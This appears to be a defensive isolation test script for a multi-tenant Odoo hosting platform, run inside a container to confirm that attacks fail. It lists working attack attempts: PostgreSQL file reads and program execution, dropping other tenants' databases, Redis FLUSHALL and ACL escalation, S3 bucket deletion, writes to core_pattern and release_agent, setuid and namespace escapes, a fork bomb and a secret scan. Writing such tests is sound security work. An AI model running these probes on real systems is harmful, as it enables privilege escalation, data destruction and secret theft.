# Copyright (c) 2026, odoo_cloud.platform contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""What somebody does who controls a replica. This runs inside of a container with all that a replica has, and nothing else: the
proof hands it over on stdin, so nothing here may come from this package.

Its argument is a JSON object: `me` and `other`, names of instances; `forbidden`, SHA-256 of secrets that a replica has no use for;
`pids`, `memory`, what the container may have. Each line of its output is one attempt: `what`, `succeeded`, `seen`, and `broken` when
the attempt itself is wrong.
"""

from __future__ import annotations

import ctypes
import errno
import glob
import hashlib
import json
import os
import pathlib
import socket
import stat
import subprocess
import sys
import time
import typing as t

GIVEN: dict[str, t.Any] = json.loads(sys.argv[1]) if len(sys.argv) > 1 else {}
ME, OTHER = GIVEN.get("me", ""), GIVEN.get("other", "")
LIBC = ctypes.CDLL(None, use_errno=True)
SECONDS = 5  # for every answer from the network

Attempt = t.Callable[[], t.Any]
ATTEMPTS: list[tuple[str, Attempt]] = []
# The same ways on what is the replica's own: they have to work, or the attempts would show nothing.
CONTROLS: list[tuple[str, Attempt]] = []


class Refused(Exception):
    """What was tried was refused, by something that raises no error of its own."""


def attempt(what: str) -> t.Callable[[Attempt], Attempt]:
    """An attempt; what it returns shows that it succeeded, if it is true."""

    def add(function: Attempt) -> Attempt:
        ATTEMPTS.append((what, function))
        return function

    return add


def control(what: str) -> t.Callable[[Attempt], Attempt]:
    def add(function: Attempt) -> Attempt:
        CONTROLS.append((what, function))
        return function

    return add


def theirs(text: str) -> str:
    """The other instance's name of something, from our own."""
    return text.replace(ME, OTHER)


def own(variable: str) -> str:
    """A variable of the replica, or what is in the file that it names."""
    path = os.environ.get(f"{variable}_FILE")
    return pathlib.Path(path).read_text().strip() if path else os.environ.get(variable, "")


def system(result: int) -> bool:
    """The result of a call of libc as success, or its error."""
    if result < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return True


# PostgreSQL


def postgres(database: str = "", user: str = "", password: str | None = None) -> t.Any:
    import psycopg2

    connection = psycopg2.connect(
        host=os.environ["DB_HOST"], port=os.environ["DB_PORT"], dbname=database or os.environ["DB_NAME"],
        user=user or os.environ["DB_USER"], password=own("DB_PASSWORD") if password is None else password,
        connect_timeout=SECONDS,
    )  # fmt: skip
    connection.autocommit = True
    return connection


def asked(statement: str, database: str = "", **login: t.Any) -> t.Any:
    """The first value that a statement returns; True when it returns nothing."""
    connection = postgres(database, **login)
    try:
        with connection.cursor() as cursor:
            cursor.execute(statement)
            if cursor.description is None:
                return True
            row = cursor.fetchone()
            return row[0] if row else None
    finally:
        connection.close()


@control("the own database")
def own_database() -> t.Any:
    return asked("SELECT count(*) > 0 FROM ir_module_module")


def add_statements() -> None:
    sessions = f"FROM pg_stat_activity WHERE datname = '{OTHER}'"
    for what, statement in {
        "create a role": "CREATE ROLE intruder LOGIN",
        "become superuser": f"ALTER ROLE {ME} SUPERUSER",
        "take another instance's role": f"GRANT {OTHER} TO {ME}",
        "act as another instance's role": f"SET ROLE {OTHER}",
        "act as the administrator": "SET SESSION AUTHORIZATION odoo_cloud_admin",
        "create a database": "CREATE DATABASE intruder",
        "rename another instance's database": f"ALTER DATABASE {OTHER} RENAME TO taken",
        "drop another instance's database": f"DROP DATABASE {OTHER}",
        "close another instance's database": f"ALTER DATABASE {OTHER} CONNECTION LIMIT 0",
        "change the server's settings": "ALTER SYSTEM SET fsync = off",
        "read a file of the server": "SELECT pg_read_file('/run/secrets/admin_verifier')",
        "list a folder of the server": "SELECT count(*) FROM pg_ls_dir('/run/secrets')",
        "copy a file of the server": "COPY public.ir_module_module (name) FROM '/etc/passwd'",
        "write a file of the server": "COPY (SELECT 1) TO '/srv/postgresql/planted'",
        "run a program of the server": "COPY public.ir_module_module (name) FROM PROGRAM 'id'",
        "import a file as a large object": "SELECT lo_import('/etc/passwd')",
        "load a library into the server": "LOAD '/tmp/planted.so'",
        "read stored passwords": "SELECT count(*) FROM pg_authid",
        "use an untrusted language": "CREATE EXTENSION plpython3u",
        "read files as tables": "CREATE EXTENSION file_fdw",
        "reload the server": "SELECT pg_reload_conf()",
        "end the other instance's sessions": f"SELECT bool_or(pg_terminate_backend(pid)) {sessions}",
        "see what the other instance asks": f"SELECT max(query) {sessions} AND query NOT LIKE '<insuff%' AND query <> ''",
    }.items():  # fmt: skip
        attempt(f"PostgreSQL: {what}")(lambda statement=statement: asked(statement))
    for what, login in {
        "the other instance's database": {"database": OTHER},
        "the other instance's lock database": {"database": f"{OTHER}--lock"},
        "the other instance's role, own password": {"database": OTHER, "user": OTHER},
        "the own keeper, own password": {"database": "postgres", "user": f"{ME}_keeper"},
        "the administrator, own password": {"database": "postgres", "user": "odoo_cloud_admin"},
        "the administrator, no password": {"database": "postgres", "user": "odoo_cloud_admin", "password": ""},
        "the superuser, no password": {"database": "postgres", "user": "postgres", "password": ""},
    }.items():
        attempt(f"PostgreSQL: log in to {what}")(lambda login=login: asked("SELECT current_user::text", **login))


add_statements()


@attempt("PostgreSQL: read all databases as a copy of the server")
def replication() -> t.Any:
    import psycopg2

    connection = psycopg2.connect(
        host=os.environ["DB_HOST"], port=os.environ["DB_PORT"], user=os.environ["DB_USER"], password=own("DB_PASSWORD"),
        connect_timeout=SECONDS, replication="true", dbname=ME,
    )  # fmt: skip
    connection.autocommit = True
    with connection.cursor() as cursor:
        cursor.execute("IDENTIFY_SYSTEM")
        return cursor.fetchone()


# Redis


class Redis:
    """A connection that speaks the protocol itself. Answers are texts, numbers, lists or None."""

    def __init__(self, login: t.Sequence[str] | None = None, host: str = "") -> None:
        name = "ODOO_SESSION_REDIS"
        address = host or os.environ[f"{name}_HOST"]
        if address.startswith("/"):
            self.socket = socket.socket(socket.AF_UNIX)
            self.socket.settimeout(SECONDS)
            self.socket.connect(address)
        else:
            self.socket = socket.create_connection((address, int(os.environ.get(f"{name}_PORT") or 6379)), SECONDS)
        self.stream = self.socket.makefile("rb")
        found = [os.environ[f"{name}_USERNAME"], own(f"{name}_PASSWORD")] if login is None else login
        if found:
            self.ask("AUTH", *found)

    def ask(self, *words: str) -> t.Any:
        """The answer to one command. Raises `Refused` for an error."""
        parts = [f"*{len(words)}\r\n".encode()]
        for word in words:
            data = str(word).encode()
            parts.append(b"$%d\r\n%s\r\n" % (len(data), data))
        self.socket.sendall(b"".join(parts))
        return self.answer()

    def answer(self) -> t.Any:
        line = self.stream.readline().rstrip(b"\r\n")
        kind, text = line[:1], line[1:].decode(errors="replace")
        if kind == b"-":
            raise Refused(text)
        if kind == b"$":
            return None if text == "-1" else self.stream.read(int(text) + 2)[:-2].decode(errors="replace")
        if kind == b"*":
            return [self.answer() for dummy in range(int(text))]
        if not kind:
            raise Refused("the connection was closed")
        return int(text) if kind == b":" else text


def prefix() -> str:
    return os.environ["ODOO_SESSION_REDIS_PREFIX"]


@control("own sessions")
def own_sessions() -> t.Any:
    key = f"{prefix().rstrip(':')}:probe"
    connection = Redis()
    connection.ask("SET", key, "x", "EX", "60")
    return connection.ask("GET", key) == "x"


def add_redis() -> None:
    other = f"{theirs(prefix()).rstrip(':')}:probe"
    for what, words in {
        "read another instance's session": ("GET", other),
        "overwrite another instance's session": ("SET", other, "x"),
        "see whether a session is there": ("EXISTS", other),
        "remove another instance's session": ("DEL", other),
        "list all keys": ("KEYS", "*"),
        "scan all keys": ("SCAN", "0"),
        "remove everything": ("FLUSHALL",),
        "read the server's settings": ("CONFIG", "GET", "*"),
        "write a file through the server": ("CONFIG", "SET", "dir", "/tmp"),
        "list users": ("ACL", "LIST"),
        "give itself more rights": ("ACL", "SETUSER", ME, "on", "+@all", "~*"),
        "list other clients": ("CLIENT", "LIST"),
        "end other clients": ("CLIENT", "KILL", "TYPE", "normal"),
        "watch other clients": ("MONITOR",),
        "stop the server": ("SHUTDOWN", "NOSAVE"),
        "make it a copy of another server": ("REPLICAOF", "192.0.2.1", "6379"),
        "read another instance's session in a script": ("EVAL", "return redis.call('get', KEYS[1])", "1", other),
        "load a module": ("MODULE", "LOAD", "/tmp/planted.so"),
        "sleep in the server": ("DEBUG", "SLEEP", "1"),
    }.items():  # fmt: skip
        attempt(f"Redis: {what}")(lambda words=words: _shown(Redis().ask(*words)))
    for what, login in {
        "the other instance's user, own password": lambda: [OTHER, own("ODOO_SESSION_REDIS_PASSWORD")],
        "the administrator, own password": lambda: ["admin", own("ODOO_SESSION_REDIS_PASSWORD")],
    }.items():
        attempt(f"Redis: log in as {what}")(lambda login=login: Redis(login()).ask("PING"))
    host = theirs(os.environ["ODOO_SESSION_REDIS_HOST"])
    if host != os.environ["ODOO_SESSION_REDIS_HOST"]:  # each instance has a server of its own
        attempt("Redis: the other instance's server, own login")(lambda: Redis(host=host).ask("PING"))
        attempt("Redis: the other instance's server, no login")(lambda: _shown(Redis([], host).ask("GET", other)))
    attempt("Redis: read without a login")(lambda: _shown(Redis([]).ask("GET", other)))


def _shown(answer: t.Any) -> str:
    return f"answered {answer!r}"[:80]


# Object store


def store(access: str = "", bucket: str = "") -> t.Any:
    import boto3
    from botocore.config import Config

    return boto3.client(
        "s3", endpoint_url=os.environ["AWS_HOST"], region_name=os.environ.get("AWS_REGION"),
        aws_access_key_id=access or own("AWS_ACCESS_KEY_ID"), aws_secret_access_key=own("AWS_SECRET_ACCESS_KEY"),
        config=Config(connect_timeout=SECONDS, read_timeout=SECONDS, retries={"max_attempts": 1}, s3={"addressing_style": "path"}),
    )  # fmt: skip


@control("the own bucket")
def own_bucket() -> t.Any:
    client, bucket = store(), os.environ["AWS_BUCKETNAME"]
    client.put_object(Bucket=bucket, Key="probe", Body=b"x")
    return client.get_object(Bucket=bucket, Key="probe")["Body"].read() == b"x"


def add_store() -> None:
    bucket = theirs(os.environ.get("AWS_BUCKETNAME", ""))
    for what, ask in {
        "list another instance's bucket": lambda: store().list_objects_v2(Bucket=bucket),
        "read another instance's file": lambda: store().get_object(Bucket=bucket, Key="probe"),
        "put a file into another instance's bucket": lambda: store().put_object(Bucket=bucket, Key="planted", Body=b"x"),
        "remove another instance's file": lambda: store().delete_object(Bucket=bucket, Key="probe"),
        "remove another instance's bucket": lambda: store().delete_bucket(Bucket=bucket),
        "read another instance's versions": lambda: store().list_object_versions(Bucket=bucket),
        "copy another instance's file": lambda: store().copy_object(
            Bucket=os.environ["AWS_BUCKETNAME"], Key="stolen", CopySource={"Bucket": bucket, "Key": "probe"}
        ),
        "open another instance's bucket for all": lambda: store().put_bucket_acl(Bucket=bucket, ACL="public-read-write"),
        "list as the other instance, own key": lambda: store(theirs(own("AWS_ACCESS_KEY_ID"))).list_buckets(),
    }.items():  # fmt: skip
        attempt(f"Store: {what}")(lambda ask=ask: _shown(ask()))
    attempt("Store: see another instance's bucket in the list")(
        lambda: [one["Name"] for one in store().list_buckets()["Buckets"] if OTHER in one["Name"]]
    )


# Secrets


@attempt("Secrets: find one that a replica has no use for, in files and variables")
def other_secrets() -> t.Any:
    forbidden, found = GIVEN["forbidden"], []
    for name, value in os.environ.items():
        found += [f"variable {name}: {forbidden[one]}" for one in digests(value.encode()) & set(forbidden)]
    for path in reachable():
        try:
            with open(path, "rb") as stream:
                data = stream.read(1 << 20)
        except OSError:
            continue
        found += [f"{path}: {forbidden[one]}" for one in digests(data) & set(forbidden)]
    return "; ".join(found)


def reachable() -> t.Iterator[str]:
    for top in ("/run", "/etc", "/srv", "/opt", "/mnt", "/var", "/tmp", "/home", "/root", "/media", "/data"):
        for folder, folders, files in os.walk(top):
            folders[:] = [
                one for one in folders if one not in ("dist-packages", "site-packages", "static", "i18n", "dpkg")
            ]
            for name in files:
                path = os.path.join(folder, name)
                try:
                    if stat.S_ISREG(os.lstat(path).st_mode):
                        yield path
                except OSError:
                    continue


def digests(data: bytes) -> set[str]:
    """Of the text as a whole and of its words."""
    words = (
        {data.strip(), *data.replace(b"=", b" ").replace(b'"', b" ").split()} if len(data) < 65536 else {data.strip()}
    )
    return {hashlib.sha256(one).hexdigest() for one in words}


# The machine


@attempt("Machine: talk to the container engine")
def engine() -> t.Any:
    tried = [
        *glob.glob("/run/*.sock"),
        *glob.glob("/var/run/*.sock"),
        "/var/run/docker.sock",
        "/run/containerd/containerd.sock",
    ]
    for path in tried:
        one = socket.socket(socket.AF_UNIX)
        try:
            one.connect(path)
            return path
        except OSError:
            continue
    return ""


def add_writes() -> None:
    for what, paths in {
        "set the program that the kernel starts at a crash": ["/proc/sys/kernel/core_pattern"],
        "press a key of the kernel": ["/proc/sysrq-trigger"],
        "change a setting of the kernel": ["/proc/sys/vm/drop_caches", "/proc/sys/kernel/hostname"],
        "load firmware or a module": ["/sys/kernel/uevent_helper", "/sys/module/firmware_class/parameters/path"],
        "raise the own memory limit": ["/sys/fs/cgroup/memory/memory.limit_in_bytes", "/sys/fs/cgroup/memory.max"],
        "set a program that a control group starts": glob.glob("/sys/fs/cgroup/*/release_agent"),
        "be ended after the services when memory runs out": ["/proc/self/oom_score_adj"],
        "overwrite a program of the image": ["/usr/local/bin/odoo-cloud", "/usr/bin/python3", "/bin/sh"],
        "overwrite the configuration": ["/etc/odoo/odoo.conf", "/etc/passwd", "/etc/resolv.conf"],
        "overwrite a secret": glob.glob("/run/secrets/*"),
        "read memory of the machine": ["/dev/mem", "/dev/kmem", "/proc/kcore"],
        "write to a disk": [*glob.glob("/dev/sd*"), *glob.glob("/dev/vd*"), *glob.glob("/dev/nvme*"), "/dev/sda"],
    }.items():
        attempt(f"Machine: {what}")(lambda paths=paths, what=what: _written(paths, what))
    for what, folder in {
        "plant a file beside the server's socket": os.environ.get("DB_HOST", "/run/postgresql"),
        "plant a file among the secrets": "/run/secrets",
        "plant a hook": "/opt/odoo-cloud/hooks",
        "plant an addon": "/opt/odoo-cloud/addons",
        "plant code of the runtime": "/opt/odoo-cloud",
        "plant code of Odoo": "/usr/lib/python3/dist-packages/odoo",
        "plant configuration": "/etc/odoo",
        "plant a static file": "/srv/static",
        "plant a static file of another instance": f"/srv/static/{OTHER}/current",
        "plant an event of a run": "/run/odoo-cloud",
        "plant a restore point": "/var/lib/odoo-restore",
    }.items():
        attempt(f"Machine: {what}")(lambda folder=folder: _planted(folder))


def _written(paths: list[str], what: str) -> str:
    for path in paths:
        try:
            if "oom_score_adj" in path:
                # The services have 0. An engine that lacks CAP_SYS_RESOURCE can't keep a replica from lowering its own 300 to that.
                pathlib.Path(path).write_text("-1")
                return path
            with open(path, "r+b" if "read memory" not in what else "rb", buffering=0) as stream:
                if "read memory" in what and not stream.read(1):
                    continue
                return path
        except OSError:
            continue
    return ""


def _planted(folder: str) -> str:
    path = f"{folder}/planted"
    with open(path, "w", encoding="ascii") as stream:
        stream.write("planted")
    os.unlink(path)
    return path


@attempt("Machine: remove the server's socket")
def remove_socket() -> t.Any:
    path = f"{os.environ['DB_HOST']}/.s.PGSQL.{os.environ['DB_PORT']}"
    os.rename(path, f"{path}.gone")
    os.rename(f"{path}.gone", path)
    return True


# mount(2), linux/mount.h
MS_REMOUNT, MS_BIND = 32, 4096


@attempt("Machine: mount a file system")
def mount() -> t.Any:
    return system(LIBC.mount(b"none", b"/tmp", b"tmpfs", 0, b""))


@attempt("Machine: make the image writable")
def remount() -> t.Any:
    return system(LIBC.mount(b"none", b"/", b"", MS_REMOUNT, b""))


@attempt("Machine: make the secrets writable")
def remount_secrets() -> t.Any:
    return system(LIBC.mount(b"none", b"/run/secrets", b"", MS_REMOUNT | MS_BIND, b""))


@attempt("Machine: uncover what lies below a mount")
def unmount() -> t.Any:
    return system(LIBC.umount2(b"/run/secrets", 2))


@attempt("Machine: become root")
def become_root() -> t.Any:
    os.setuid(0)
    return True


@attempt("Machine: become another user")
def become_another() -> t.Any:
    os.setuid(8432)
    return True


@attempt("Machine: run a program with another user's rights")
def set_uid_programs() -> t.Any:
    program = "import os; print(os.geteuid())"
    for path in ("/tmp/python", "/dev/shm/python"):
        try:
            with open("/usr/bin/python3", "rb") as source, open(path, "wb") as target:
                target.write(source.read())
            os.chmod(path, 0o6755)
            os.chown(path, 0, 0)
        except OSError:
            continue
        return (
            subprocess.run(
                [path, "-c", program], capture_output=True, text=True, timeout=10, check=False
            ).stdout.strip()
            == "0"
        )
    found = subprocess.run(["find", "/usr", "/bin", "/sbin", "-xdev", "-perm", "-4000", "-user", "root"],
                           capture_output=True, text=True, timeout=60, check=False).stdout.split()  # fmt: skip
    for one in found:
        # `su` and the like ask for a password; whether the right is given shows in the process itself.
        child = subprocess.Popen([one], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        try:
            status = pathlib.Path(f"/proc/{child.pid}/status").read_text()
            if "\nUid:\t8069\t0\t" in status:
                return one
        except OSError:
            pass
        finally:
            child.kill()
            child.wait()
    return ""


@attempt("Machine: get capabilities")
def capabilities() -> t.Any:
    status = pathlib.Path("/proc/self/status").read_text()
    sets = {line.split(":")[0]: int(line.split()[1], 16) for line in status.splitlines() if line.startswith("Cap")}
    return {name: hex(value) for name, value in sets.items() if value}


@attempt("Machine: send packets of another sender")
def raw_socket() -> t.Any:
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()
    return True


@attempt("Machine: listen to the network of others")
def packet_socket() -> t.Any:
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 768).close()
    return True


@attempt("Machine: rights over the machine from a user namespace")
def namespace() -> t.Any:
    """Where the engine has no seccomp profile, the namespace is allowed; it must lead nowhere."""
    child = os.fork()
    if child == 0:
        if LIBC.unshare(0x10000000 | 0x00020000 | 0x40000000) != 0:  # user, mount, network: linux/sched.h
            os._exit(1)
        good = LIBC.mount(b"none", b"/", b"", MS_REMOUNT | MS_BIND, b"") == 0 and _reached("/usr/local/bin/odoo-cloud")
        good = good or LIBC.umount2(b"/run/secrets", 2) == 0
        good = good or _reached("/proc/sys/kernel/core_pattern") or _reached("/proc/sysrq-trigger")
        os._exit(0 if good else 1)
    return os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 0


def _reached(path: str) -> bool:
    try:
        with open(path, "r+b", buffering=0):
            return True
    except OSError:
        return False


@attempt("Machine: create a device")
def device() -> t.Any:
    os.mknod("/tmp/disk", stat.S_IFBLK | 0o600, os.makedev(8, 0))
    return True


@attempt("Machine: open a file by its number")
def by_handle() -> t.Any:
    handle = ctypes.create_string_buffer(b"\x08\0\0\0\x01\0\0\0\x02\0\0\0\0\0\0\0", 16)
    folder = os.open("/etc/odoo", os.O_RDONLY)
    return system(LIBC.open_by_handle_at(folder, handle, os.O_RDONLY))


@attempt("Machine: see processes of others")
def processes() -> t.Any:
    found = []
    for name in filter(str.isdigit, os.listdir("/proc")):
        try:
            words = pathlib.Path(f"/proc/{name}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
        except OSError:
            continue
        if any(one in words for one in ("postgres:", "dockerd", "nginx:", "redis-server", "swift-")):
            found.append(words)
    return found[:3]


@attempt("Machine: set its clock")
def clock() -> t.Any:
    time.clock_settime(time.CLOCK_REALTIME, time.time())
    return True


@attempt("Machine: restart it")
def reboot() -> t.Any:
    return system(LIBC.reboot(0))


@attempt("Limits: more processes than it may have")
def fork_bomb() -> t.Any:
    children, most = [], int(GIVEN["pids"]) + 200
    try:
        while len(children) < most:
            child = os.fork()
            if child == 0:
                time.sleep(60)
                os._exit(0)
            children.append(child)
    except OSError as error:
        if error.errno != errno.EAGAIN:
            raise
    finally:
        for child in children:
            os.kill(child, 9)
            os.waitpid(child, 0)
    return f"{len(children)} processes" if len(children) >= most else ""


@attempt("Limits: more memory than it may have")
def hungry() -> t.Any:
    child = os.fork()
    if child == 0:
        pathlib.Path("/proc/self/oom_score_adj").write_text("1000")  # so that this process is ended, and no other
        kept = []
        for dummy in range(int(GIVEN["memory"]) * 5 // 4 >> 20):
            kept.append(b"x" * (1 << 20))
        os._exit(0)
    return os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 0


@attempt("Limits: more in /tmp than half of its memory")
def fill_tmp() -> t.Any:
    most, written, block = int(GIVEN["memory"]) * 5 // 8, 0, b"\0" * (1 << 20)
    path = "/tmp/filling"
    try:
        with open(path, "wb", buffering=0) as stream:
            while written < most:
                written += stream.write(block)
    except OSError as error:
        if error.errno != errno.ENOSPC:
            raise
    finally:
        os.unlink(path)
    return f"{written >> 20} MB" if written >= most else ""


@attempt("Limits: more shared memory than 64 MB")
def fill_shm() -> t.Any:
    path, written = "/dev/shm/filling", 0
    try:
        with open(path, "wb", buffering=0) as stream:
            while written < 96 << 20:
                written += stream.write(b"\0" * (1 << 20))
    except OSError as error:
        if error.errno not in (errno.ENOSPC, errno.EACCES, errno.EROFS):
            raise
    finally:
        if os.path.exists(path):
            os.unlink(path)
    return f"{written >> 20} MB" if written >= 96 << 20 else ""


def main() -> None:
    import botocore.exceptions
    import psycopg2

    add_writes()
    if os.environ.get("ODOO_SESSION_REDIS"):
        add_redis()
    if os.environ.get("AWS_BUCKETNAME"):
        add_store()
    refusals = (OSError, Refused, psycopg2.Error, botocore.exceptions.ClientError, botocore.exceptions.BotoCoreError)
    for kind, found in (("control", CONTROLS), ("attempt", ATTEMPTS)):
        for what, function in found:
            line: dict[str, t.Any] = {"kind": kind, "what": what, "succeeded": False, "seen": "", "broken": ""}
            try:
                answer = function()
                line.update(succeeded=bool(answer), seen=str(answer)[:200] if answer else "")
            except refusals as error:
                line["refusal"] = " ".join(f"{type(error).__name__}: {error}".split())[:200]
            except Exception as error:  # noqa: BLE001 - the proof fails then
                line["broken"] = f"{type(error).__name__}: {error}"
            print(json.dumps(line), flush=True)


if __name__ == "__main__":
    main()
